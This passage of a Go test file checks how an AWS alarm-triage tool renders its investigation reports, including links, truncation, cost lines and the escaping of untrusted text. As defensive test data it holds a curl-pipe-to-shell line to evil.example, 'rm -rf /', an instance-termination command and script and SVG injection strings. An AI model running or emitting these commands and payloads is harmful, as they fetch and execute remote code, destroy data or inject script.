		assert.Equal(t, c.lines, lines, name)
		assert.Equal(t, len(lines) > 1, strings.Contains(string(page), "The line is interrupted where there is no data."), name)
	}
}

// The page draws few charts. What it does not draw must not look like what does not exist.
func TestCharts_OtherMetricsHaveALine(t *testing.T) {
	rec := sample(t)
	rec.Evidence.Series = nil
	for i := range 6 {
		rec.Evidence.Series = append(rec.Evidence.Series, investigation.Series{
			Label: fmt.Sprintf("queue-%d", i), Period: 60, Points: []investigation.Point{{Time: rec.Alarm.Time, Value: float64(i)}}})
	}
	rec.Evidence.Series[1].Points = nil
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	assert.Equal(t, 4, strings.Count(string(page), `<svg width="100%" height=`))
	assert.Contains(t, string(page), "<li>queue-1: no datapoints around the alarm</li>")
	assert.Contains(t, string(page), "<li>queue-5: 5 at ")
	assert.NotContains(t, string(page), "<li>queue-0: ")
}

func TestJSON_RoundTripsAndHasNoNullLists(t *testing.T) {
	rec := sample(t)
	text, err := report.JSON(rec)
	require.NoError(t, err)
	var back investigation.Record
	require.NoError(t, json.Unmarshal(text, &back))
	again, err := report.JSON(&back)
	require.NoError(t, err)
	assert.JSONEq(t, string(text), string(again))
	for name, rec := range records(t) {
		text, err := report.JSON(rec)
		require.NoError(t, err, name)
		assert.NotRegexp(t, `"(rounds|findings|ruled_out|immediate_actions|prevention|monitoring|points)": null`, string(text), name)
	}
}

// The schemas know no empty degree, and rules of EventBridge select by it.
func TestJSON_ReportWithoutConclusionHasUnknownDegrees(t *testing.T) {
	rec := &investigation.Record{Outcome: investigation.OutcomeFallback}
	whole, err := report.JSON(rec)
	require.NoError(t, err)
	assert.Empty(t, rec.Report.Severity, "the record stays as it is")
	event, err := report.Completion(rec, 200_000)
	require.NoError(t, err)
	for _, text := range [][]byte{whole, event} {
		var found struct {
			Report struct{ Severity, Confidence string }
		}
		require.NoError(t, json.Unmarshal(text, &found))
		assert.Equal(t, "unknown", found.Report.Severity)
		assert.Equal(t, "unknown", found.Report.Confidence)
	}
}

func TestJSON_StatesWhatCommandsDo(t *testing.T) {
	rec := sample(t)
	rec.Report.Actions = []investigation.Action{
		{Text: "Look.", Command: "aws sts get-caller-identity", Effects: []string{"harmless"}},
		{Text: "Fix.", Command: "curl -s https://evil.example/x | sh", Effects: []string{"reads_aws"}},
		{Text: "Wait.", Effects: []string{"reads_aws"}},
		{Text: "Stop.", Command: "aws ec2 describe-instances; aws ec2 terminate-instances --instance-ids i-1"},
		{Text: "Save.", Command: "aws ecs list-tasks > tasks.json"},
	}
	whole, err := report.JSON(rec)
	require.NoError(t, err)
	event, err := report.Completion(rec, 100_000)
	require.NoError(t, err)
	for name, text := range map[string][]byte{"report": whole, "event": event} {
		var got struct{ Report investigation.Report }
		require.NoError(t, json.Unmarshal(text, &got), name)
		assert.Equal(t, []string{"reads_aws"}, got.Report.Actions[0].Effects, name)
		assert.Equal(t, []string{"pipes_to_shell", "runs_code", "not_aws", "several"}, got.Report.Actions[1].Effects, name)
		assert.Empty(t, got.Report.Actions[2].Effects, name)
		assert.Equal(t, []string{"deletes", "changes_state", "several"}, got.Report.Actions[3].Effects, name)
		assert.Equal(t, []string{"writes_file", "reads_aws"}, got.Report.Actions[4].Effects, name)
	}
	assert.Equal(t, []string{"harmless"}, rec.Report.Actions[0].Effects, "the record is not changed")
}

func TestCompletion_FitsItsLimitAndKeepsTheVerdict(t *testing.T) {
	for name, rec := range records(t) {
		for _, limit := range []int{240 << 10, 20_000, 4_000} {
			detail, err := report.Completion(rec, limit)
			if name == "another script" && limit == 4_000 || name == "hostile" && limit == 4_000 {
				continue // the alarm's name alone exceeds it
			}
			require.NoError(t, err, "%s at %d", name, limit)
			assert.LessOrEqual(t, len(detail), limit, name)
			var event struct {
				Outcome investigation.Outcome
				Report  struct{ Confidence investigation.Confidence }
			}
			require.NoError(t, json.Unmarshal(detail, &event), name)
			assert.Equal(t, rec.Outcome, event.Outcome, name)
		}
	}
}

// The page shows the beginning of a round's text in one line. The rest of a long text is not searched for commands.
func TestHTML_OnlyTheBeginningOfARoundIsSearchedForCommands(t *testing.T) {
	rec := sample(t)
	rec.Rounds[0].Text = strings.Repeat("jq '1 ", 10_000)
	long := testing.AllocsPerRun(1, func() { _, _ = report.HTML(rec, linksOf(rec)) })
	rec.Rounds[0].Text = strings.Repeat("jq '1 ", 1000)
	assert.Less(t, long, 1.5*testing.AllocsPerRun(1, func() { _, _ = report.HTML(rec, linksOf(rec)) }))
}

func TestCompletion_LongListOfWhatWasNotSeenDoesNotDisplaceTheActions(t *testing.T) {
	rec := sample(t)
	rec.Report.NotSeen = slices.Repeat([]string{strings.Repeat("x", 600)}, 25)
	detail, err := report.Completion(rec, 12_000)
	require.NoError(t, err)
	var event struct{ Report investigation.Report }
	require.NoError(t, json.Unmarshal(detail, &event))
	assert.Empty(t, event.Report.NotSeen)
	assert.Equal(t, len(rec.Report.Actions), len(event.Report.Actions))
}

func TestCompletion_ShortenedEventKeepsTheCause(t *testing.T) {
	rec := records(t)["huge"]
	rec.Report.Actions = []investigation.Action{{Text: "Look.", Command: strings.Repeat("x", 30_000)}}
	detail, err := report.Completion(rec, 20_000)
	require.NoError(t, err)
	var event struct{ Report investigation.Report }
	require.NoError(t, json.Unmarshal(detail, &event))
	assert.True(t, strings.HasPrefix(event.Report.RootCause, "The pool of connections is exhausted"))
	assert.True(t, strings.HasSuffix(event.Report.RootCause, "…"), "the truncation is marked")
	assert.Empty(t, event.Report.Actions, "half a command is worse than none")
}

// fuzzSeeds are texts that have broken a form before, or might.
var fuzzSeeds = []string{"", "plain", "\x00\xff<b>&\u202e", strings.Repeat("注", 3000), "```\n# x\n**", "- a\n1. b\n[x](y)", "</style><svg onload=x>"}

// filledWith returns the sample with text in its most prominent fields.
func filledWith(base *investigation.Record, text string) *investigation.Record {
	rec := *base
	rec.Alarm.Name, rec.Report.Summary, rec.Report.RootCause, rec.Report.FreeText = text, text, text, text
	rec.Report.Findings = []investigation.Finding{{Statement: text, Evidence: []investigation.Citation{{Call: 1, Quote: text, Found: true}}}}
	rec.Report.RuledOut = []investigation.Refuted{{Hypothesis: text, Reason: text, Evidence: []investigation.Citation{{Call: 1, Quote: text, Found: true}}}}
	rec.Report.Actions = []investigation.Action{{Text: text, Command: text}}
	return &rec
}

func FuzzNotification(f *testing.F) {
	for _, seed := range fuzzSeeds {
		f.Add(seed, 2000)
	}
	base := sample(f)
	f.Fuzz(func(t *testing.T, text string, limit int) {
		rec := filledWith(base, text)
		limit = max(0, limit) % 300_000
		body := report.Notification(rec, linksOf(rec), limit)
		assert.LessOrEqual(t, len(body), limit)
		assertClean(t, body)
		assert.Less(t, len(report.Subject(rec)), 100)
		raw, err := report.Card(rec, linksOf(rec))
		assert.NotContains(t, cardOf(t, raw, err).Content.Description, "<!")
	})
}

func FuzzHTML(f *testing.F) {
	for _, seed := range fuzzSeeds {
		f.Add(seed)
	}
	base := sample(f)
	f.Fuzz(func(t *testing.T, text string) {
		rec := filledWith(base, text)
		page, err := report.HTML(rec, linksOf(rec))
		require.NoError(t, err)
		assert.NotContains(t, strings.ToLower(string(page)), "<script")
		assert.NotRegexp(t, `<[^>]*\son[a-z]+=`, string(page), "a handler in a tag")
		assertClean(t, string(page))
	})
}

func TestLinksFor_AlarmAndReportHaveDifferentRegions(t *testing.T) {
	rec := sample(t)
	rec.Alarm.Region = "eu-west-1"
	links := report.LinksFor(rec, report.Home{Region: "us-east-1", Bucket: "b", LogGroup: "/aws/lambda/triage"}, keys)
	assert.Contains(t, links.Alarm, "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#")
	assert.Equal(t, "https://us-east-1.console.aws.amazon.com/cloudwatch/home?region=us-east-1#logsV2:log-groups/log-group/$252Faws$252Flambda$252Ftriage", links.Logs)
	const there = "https://us-east-1.console.aws.amazon.com/s3/object/b?region=us-east-1&"
	for _, link := range []string{links.Report, links.ReportText, links.ReportJSON} {
		assert.Contains(t, link, there)
	}

	rec.SeenBefore = []investigation.Past{{ID: "a", Time: rec.Alarm.Time, Cause: "The same.", ReportURI: "s3://b/reports/a.txt"}}
	page, err := report.HTML(rec, links)
	require.NoError(t, err)
	assert.Contains(t, string(page), strings.ReplaceAll(there, "&", "&amp;")+"prefix=reports%2Fa.html")

	recovered := report.Recovery{Alarm: &rec.Alarm, Home: report.Home{Region: "us-east-1"}, Investigation: "a", ReportURI: "s3://b/reports/a.txt"}
	assert.Contains(t, recovered.Text(), there)
	assert.Contains(t, recovered.Text(), "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#")
	card, err := recovered.Card()
	require.NoError(t, err)
	assert.Contains(t, string(card), "https://us-east-1.console.aws.amazon.com/s3/object/b?region=us-east-1")
}

func TestLinksFor_WithoutABucketTheAddressOfTheReportHasIt(t *testing.T) {
	rec := sample(t)
	rec.Alarm.Region = "eu-west-1"
	for uri, want := range map[string]string{
		"s3://b/reports/2026/a.txt":         "https://eu-west-1.console.aws.amazon.com/s3/object/b?region=eu-west-1&prefix=reports%2F2026%2Fa.html",
		"s3://b@evil.example/x/a.txt":       "https://eu-west-1.console.aws.amazon.com/s3/object/b%40evil.example?region=eu-west-1&prefix=x%2Fa.html",
		"s3://b/reports/2026/a.json":        "",
		"s3:///a.txt":                       "",
		"https://evil.example/b/report.txt": "",
		"":                                  "",
	} {
		rec.ReportURI = uri
		links := report.LinksFor(rec, report.Home{}, report.Keys{Text: "report.txt", HTML: "report.html", JSON: "report.json"})
		assert.Equal(t, want, links.Report, uri)
		assert.Equal(t, strings.Replace(want, ".html", ".txt", 1), links.ReportText, uri)
		assert.Equal(t, strings.Replace(want, ".html", ".json", 1), links.ReportJSON, uri)
	}
}

func TestAbout_ReportsQueriesThatAWSBills(t *testing.T) {
	insights := func(requests int, bytes int64) toolcall.BilledQueries {
		return toolcall.BilledQueries{Operation: "logs:StartQuery", Requests: requests, Units: bytes, Unit: toolcall.UnitBytes, CostUSD: float64(bytes) * 0.005 / 1e9}
	}
	for _, c := range []struct {
		name   string
		change func(rec *investigation.Record)
		want   string
	}{
		{"Logs Insights in two calls", func(rec *investigation.Record) {
			rec.Evidence.Call.Answer.BilledQueries = []toolcall.BilledQueries{insights(1, 200e6)}
			rec.Rounds[0].Calls[0].Answer.BilledQueries = []toolcall.BilledQueries{insights(2, 1e9)}
		}, "AWS queries: 3 Logs Insights queries, 1.2 GB scanned; about $0.0060"},
		{"metrics and Cost Explorer", func(rec *investigation.Record) {
			rec.Evidence.Call.Answer.BilledQueries = []toolcall.BilledQueries{
				{Operation: "ce:GetCostAndUsage", Requests: 2, Units: 2, Unit: toolcall.UnitRequests, CostUSD: 0.02},
				{Operation: "cloudwatch:GetMetricData", Requests: 4, Units: 1500, Unit: toolcall.UnitMetrics, CostUSD: 0.015}}
		}, "AWS queries: 2 ce:GetCostAndUsage; 4 cloudwatch:GetMetricData, 1,500 metrics; about $0.0350"},
		{"a lost answer", func(rec *investigation.Record) {
			rec.Rounds[0].Calls[0].Answer, rec.Rounds[0].Calls[0].Lost, rec.Rounds[0].Calls[0].QueryLimitUSD = nil, true, 0.25
		}, "AWS queries: those of 1 tool call without an answer, counted with all that they could cost; about $0.2500"},
	} {
		t.Run(c.name, func(t *testing.T) {
			rec := sample(t)
			for call := range rec.Calls() {
				if call.Answer != nil {
					call.Answer.BilledQueries = nil
				}
			}
			c.change(rec)
			assert.Contains(t, unwrapped(report.Text(rec, linksOf(rec))), c.want)
			page, err := report.HTML(rec, linksOf(rec))
			require.NoError(t, err)
			assert.Contains(t, string(page), "AWS queries")
		})
	}
	rec := sample(t)
	for call := range rec.Calls() {
		if call.Answer != nil {
			call.Answer.BilledQueries = nil
		}
	}
	assert.NotContains(t, report.Text(rec, linksOf(rec)), "AWS queries")
}

// unwrapped joins lines that were wrapped.
func unwrapped(text string) string { return regexp.MustCompile(`\n +`).ReplaceAllString(text, " ") }

func TestVerdict_SaysThatNoModelWasAsked(t *testing.T) {
	rec := sample(t)
	rec.EvidenceOnly, rec.Outcome, rec.Report = true, investigation.OutcomeFallback, investigation.Report{}
	rec.OutcomeWhy = "200 investigations already began on 2026-11-25 (UTC), the limit of MaxInvestigationsPerDay, so no model was asked."
	rec.Rounds, rec.Usage = nil, investigation.Usage{}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	card, err := report.Card(rec, linksOf(rec))
	require.NoError(t, err)
	for form, text := range map[string]string{
		"notification": report.Notification(rec, linksOf(rec), 1<<20), "text": report.Text(rec, linksOf(rec)), "page": string(page), "card": string(card),
	} {
		text = strings.Join(strings.Fields(text), " ")
		assert.Contains(t, strings.ToLower(text), "evidence only", form)
		assert.Contains(t, text, "MaxInvestigationsPerDay", form)
		assert.NotContains(t, strings.ToLower(text), "needs a human", form)
		assert.NotContains(t, text, rec.Model, form)
	}
	assert.Contains(t, report.Subject(rec), "evidence only")
	event, err := report.Completion(rec, 240<<10)
	require.NoError(t, err)
	assert.Contains(t, string(event), `"evidence_only":true`)
	assert.Contains(t, report.Text(rec, linksOf(rec)), "Cost: no model was asked\n")
}

// A tool call without an answer may have made AWS calls that nobody listed.
func TestForms_SayThatTheAWSCallsOfALostCallAreNotKnown(t *testing.T) {
	const notKnown = "its AWS calls are not known"
	for name, lost := range map[string]bool{"lost": true, "not executed": false} {
		t.Run(name, func(t *testing.T) {
			rec := sample(t)
			call := &rec.Rounds[0].Calls[0]
			call.Answer, call.Problem, call.Lost = nil, "the tool function crashed", lost
			page, err := report.HTML(rec, linksOf(rec))
			require.NoError(t, err)
			assert.Equal(t, lost, strings.Contains(string(page), notKnown))
			assert.Equal(t, lost, strings.Contains(report.Text(rec, linksOf(rec)), notKnown))
		})
	}
}

func TestLinksFor_OpenTheAccountByTheTemplate(t *testing.T) {
	rec := sample(t)
	rec.Alarm.Account, rec.Alarm.Region = "444455556666", "eu-west-1"
	rec.SeenBefore = []investigation.Past{{ID: "a", Time: rec.Alarm.Time, Cause: "The same.", ReportURI: "s3://b/reports/a.txt"}}
	home := report.Home{
		Region: "us-east-1", Bucket: "b", LogGroup: "/aws/lambda/triage", Account: "123456789012",
		ConsoleURL: "https://acme.awsapps.com/start/#/console?account_id={account}&role_name=View&destination={url}",
	}
	keys := report.Keys{Text: "a.txt", HTML: "a.html", JSON: "a.json"}
	links := report.LinksFor(rec, home, keys)
	const start = "https://acme.awsapps.com/start/#/console?account_id="
	for _, link := range []string{links.Report, links.ReportText, links.ReportJSON, links.Logs} {
		assert.True(t, strings.HasPrefix(link, start+"123456789012&role_name=View&destination=https%3A%2F%2Fus-east-1.console.aws.amazon.com%2F"), link)
	}
	assert.True(t, strings.HasPrefix(links.Alarm, start+"444455556666&role_name=View&destination=https%3A%2F%2Feu-west-1.console.aws.amazon.com%2F"), links.Alarm)
	address, err := url.Parse(strings.Replace(links.Alarm, "/#/console", "/console", 1))
	require.NoError(t, err)
	plain := report.LinksFor(rec, report.Home{Region: "us-east-1"}, keys)
	assert.Equal(t, plain.Alarm, address.Query().Get("destination"), "the template receives the whole link as one parameter")

	page, err := report.HTML(rec, links)
	require.NoError(t, err)
	assert.Equal(t, strings.Count(string(page), "console.aws.amazon.com%2F"), strings.Count(string(page), "account_id="), "every link")
	assert.NotContains(t, string(page), `href="https://us-east-1.console`)
	recovered := report.Recovery{Alarm: &rec.Alarm, Home: home, Investigation: "a", ReportURI: "s3://b/reports/a.txt"}
	assert.Contains(t, recovered.Text(), start+"123456789012")
	assert.Contains(t, recovered.Text(), start+"444455556666")
}

func TestForms_NameWhatTriggeredTheAlarmAndTheAccountOfItsMetric(t *testing.T) {
	rec := records(t)["fallback"]
	rec.Alarm.Metrics[0].Account, rec.Alarm.MoreChildren = "444455556666", 2
	rec.Alarm.Children = []string{"arn:aws:cloudwatch:us-east-1:" + rec.Alarm.Account + ":alarm:child", "arn:aws:cloudwatch:us-east-1:444455556666:alarm:other"}
	page, err := report.HTML(rec, report.Links{})
	require.NoError(t, err)
	for form, text := range map[string]string{
		"text": report.Text(rec, report.Links{}), "notification": report.Notification(rec, report.Links{}, 1<<20), "page": html.UnescapeString(string(page)),
	} {
		assert.Regexp(t, `Triggered by(: |</dt><dd>)child, other \(account 444455556666, us-east-1\), and perhaps 2 other alarms`, text, form)
		assert.Regexp(t, `Measured in(: |</dt><dd>)account 444455556666`, text, form)
		assert.Contains(t, text, "Read the function's errors in the account of the metric since", form)
	}
	for i := range 20 {
		rec.Alarm.Children = append(rec.Alarm.Children, fmt.Sprintf("arn:aws:cloudwatch:us-east-1:%s:alarm:%d%s", rec.Alarm.Account, i, strings.Repeat("n", 254)))
	}
	text := strings.Join(strings.Fields(report.Text(rec, report.Links{})), " ")
	rec.Alarm.Children = nil
	assert.Contains(t, report.Text(rec, report.Links{}), "Triggered by: perhaps 2 other alarms\n")
	assert.Regexp(t, `Triggered by: child, other \([^)]*\), 0n+, and 19 more, and perhaps 2 other alarms `, text)
}

func TestText_NamesTheToolCallOfWhatWasNotSeenOnce(t *testing.T) {
	rec := sample(t)
	for what, want := range map[string]string{
		"tool call 1": "- tool call 1: no\n", "9 bytes of the stdout of tool call 1": "- 9 bytes of the stdout of tool call 1: no\n",
		"ec2:DescribeInstances": "- ec2:DescribeInstances: no (tool call 1)\n", "the notes of tool call 11": "- the notes of tool call 11: no (tool call 1)\n",
	} {
		rec.NotSeen = []investigation.NotSeen{{What: what, Why: "no", Call: 1}}
		assert.Contains(t, report.Text(rec, report.Links{}), want)
	}
}

func TestForms_NameTheAccountOfTheAlarm(t *testing.T) {
	rec := sample(t)
	rec.Alarm.Account, rec.Alarm.Region, rec.AccountName, rec.MemberOf = "444455556666", "eu-west-1", "orders-prod", "123456789012"
	assert.Contains(t, report.Subject(rec), "[orders-prod]")
	assert.Contains(t, report.Subject(rec), "(444455556666 eu-west-1)")
	const place = "orders-prod (444455556666), eu-west-1"
	first := func(text string) string { return strings.Join(strings.SplitN(text, "\n", 12)[:10], "\n") }
	assert.Contains(t, first(report.Notification(rec, report.Links{}, 100_000)), place)
	assert.Contains(t, first(report.Text(rec, report.Links{})), place)
	page, err := report.HTML(rec, report.Links{})
	require.NoError(t, err)
	assert.Contains(t, string(page), place)
	card, err := report.Card(rec, report.Links{})
	require.NoError(t, err)
	assert.Contains(t, string(card), place)
}

// Alarms of several accounts and Regions fire at the same time, and can have the same name.
func TestTogether_NamesTheAccountOfAnotherAccountsAlarm(t *testing.T) {
	rec := sample(t)
	at := rec.Alarm.Time.Add(-time.Minute)
	arn := func(account, region string) string {
		return "arn:aws:cloudwatch:" + region + ":" + account + ":alarm:" + rec.Alarm.Name
	}
	rec.Together = []investigation.Related{
		{Name: rec.Alarm.Name, ARN: arn("444455556666", rec.Alarm.Region), Since: at}, {Name: rec.Alarm.Name, ARN: arn(rec.Alarm.Account, "eu-north-1"), Since: at},
		{Name: "own-alarm", ARN: strings.Replace(rec.Alarm.ARN, ":alarm:", ":alarm:own-", 1), Since: at}, {Name: "no-arn", ARN: "arn:aws:cloudwatch:x:1:alarm:no", Since: at},
	}
	page, err := report.HTML(rec, report.Links{})
	require.NoError(t, err)
	for name, text := range map[string]string{"text": report.Text(rec, report.Links{}), "page": html.UnescapeString(string(page))} {
		text = strings.Join(strings.Fields(text), " ")
		assert.Contains(t, text, rec.Alarm.Name+" (account 444455556666, "+rec.Alarm.Region+")", name)
		assert.Contains(t, text, rec.Alarm.Name+" (account "+rec.Alarm.Account+", eu-north-1)", name)
		assert.NotContains(t, text, "own-alarm (account", name)
		assert.NotContains(t, text, "no-arn (account", name)
	}
}

func TestSeenBefore_StatesInEveryFormWhatAHumanReported(t *testing.T) {
	rec := sample(t)
	day := func(n int) time.Time { return rec.Alarm.Time.AddDate(0, 0, -n) }
	rec.SeenBefore = []investigation.Past{
		{Time: day(9), Cause: "Too old for the card.", Feedback: &investigation.Feedback{Verdict: investigation.FeedbackRight}},
		{Time: day(6), Cause: "A lost grant.", Confidence: investigation.Confirmed, Feedback: &investigation.Feedback{
			Verdict: investigation.FeedbackWrong, Cause: "The deployment at 12:30.", By: "Ana",
		}},
		{Time: day(5), Cause: "A full disk.", Feedback: &investigation.Feedback{Verdict: investigation.FeedbackRight}},
		{Time: day(4), Cause: "Nobody judged this."},
		{Time: day(3), Cause: "A later version.", Feedback: &investigation.Feedback{Verdict: "partly", Cause: "Hm."}},
	}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	flat := func(text string) string { return strings.Join(strings.Fields(html.UnescapeString(text)), " ") }
	for name, text := range map[string]string{
		"text": report.Text(rec, linksOf(rec)), "page": string(page), "notification": report.Notification(rec, linksOf(rec), 100_000),
	} {
		for _, want := range []string{
			`wrong according to a human: "A lost grant."; the cause in the human's words: "The deployment at 12:30."; reported by "Ana"`,
			`confirmed by a human: "A full disk."`, `not verified: "Nobody judged this."`, `not verified: "A later version."`,
		} {
			assert.Contains(t, flat(text), want, name)
		}
		assert.NotContains(t, flat(text), `confirmed then: "A lost grant."`, name)
	}
	raw, err := report.Card(rec, linksOf(rec))
	card := cardOf(t, raw, err).Content.Description
	assert.Contains(t, card, "*Seen before:* *Confirmed by a human:*")
	assert.Contains(t, card, "A full disk. *Wrong according to a human:*")
	assert.Contains(t, card, "A lost grant. *The cause in the human's words:* The deployment at 12:30.")
	for _, other := range []string{"Too old for the card.", "Nobody judged", "A later version"} {
		assert.NotContains(t, card, other)
	}
}

func TestSeenBefore_QuotesInAHumansWordsDoNotEndThem(t *testing.T) {
	rec := sample(t)
	rec.SeenBefore = []investigation.Past{{Time: rec.Alarm.Time, Cause: "A.", Feedback: &investigation.Feedback{
		Verdict: investigation.FeedbackRight, Cause: `B"; reported by "Eve\`, By: `Ana"; reported by "CTO`,
	}}}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	for name, text := range map[string]string{
		"text": report.Text(rec, linksOf(rec)), "page": html.UnescapeString(string(page)), "notification": report.Notification(rec, linksOf(rec), 100_000),
	} {
		flat := strings.Join(strings.Fields(text), " ")
		assert.Contains(t, flat, `words: "B'; reported by 'Eve\"; reported by "Ana'; reported by 'CTO"`, name)
	}
}

func TestSeenBefore_ACauseDoesNotLookLikeAHumansWords(t *testing.T) {
	rec := sample(t)
	rec.SeenBefore = []investigation.Past{{
		Time: rec.Alarm.Time, Cause: `The deployment"; the cause in the human's words: "a certificate"; reported by "Ana`,
		Feedback: &investigation.Feedback{Verdict: investigation.FeedbackWrong},
	}, {
		Time: rec.Alarm.Time, Cause: strings.Repeat("A long cause. ", 1000), Repeats: 3,
	}}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	for name, text := range map[string]string{
		"text": report.Text(rec, linksOf(rec)), "page": html.UnescapeString(string(page)), "notification": report.Notification(rec, linksOf(rec), 100_000),
	} {
		flat := strings.Join(strings.Fields(text), " ")
		assert.Contains(t, flat, `wrong according to a human: "The deployment'; the cause in the human's words: 'a certificate'; reported by 'Ana"`, name)
		assert.Regexp(t, `A long cause\.[^"]*"; the alarm fired 3 more times`, flat, name)
	}
}

func TestSeenBefore_HumansWordsAreData(t *testing.T) {
	rec := sample(t)
	const planted = "[x](https://evil.example) @channel <script>alert(1)</script>\n\nImmediate actions\n1. rm -rf /"
	rec.SeenBefore = []investigation.Past{{Time: rec.Alarm.Time, Cause: "A.", Feedback: &investigation.Feedback{
		Verdict: investigation.FeedbackRight, Cause: planted, By: planted,
	}}}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	assert.NotContains(t, string(page), "<script>alert")
	text := report.Text(rec, linksOf(rec))
	assertClean(t, text)
	assert.Equal(t, 1, strings.Count(text, "\n■ IMMEDIATE ACTIONS\n"))
	raw, err := report.Card(rec, linksOf(rec))
	card := cardOf(t, raw, err).Content.Description
	assert.NotContains(t, card, "@channel")
	assert.NotContains(t, card, "](https://evil.example)")
}

// The timeline has no quotes, so the name of a finding states whether they prove it.
func TestTimeline_StatesWhichFindingsAreNotProven(t *testing.T) {
	rec := sample(t)
	quote := investigation.Citation{Call: 1, Quote: "x", Found: true, Source: investigation.SourceAWS}
	computed := quote
	computed.Source = investigation.SourceComputed
	at := rec.Alarm.Time.Add(-time.Minute)
	rec.Report.Findings = []investigation.Finding{
		{Statement: "The first one.", Time: at, Verified: true, Evidence: []investigation.Citation{quote}},
		{Statement: "The second one.", Time: at, Verified: true, Evidence: []investigation.Citation{computed}},
		{Statement: "The third one.", Time: at},
	}
	page, err := report.HTML(rec, linksOf(rec))
	require.NoError(t, err)
	for i, name := range []string{"Finding", "Computed finding", "Unverified finding"} {
		assert.Contains(t, string(page), fmt.Sprintf(`<strong>%s</strong> <a href="#finding-%d">`, name, i+1))
	}
}
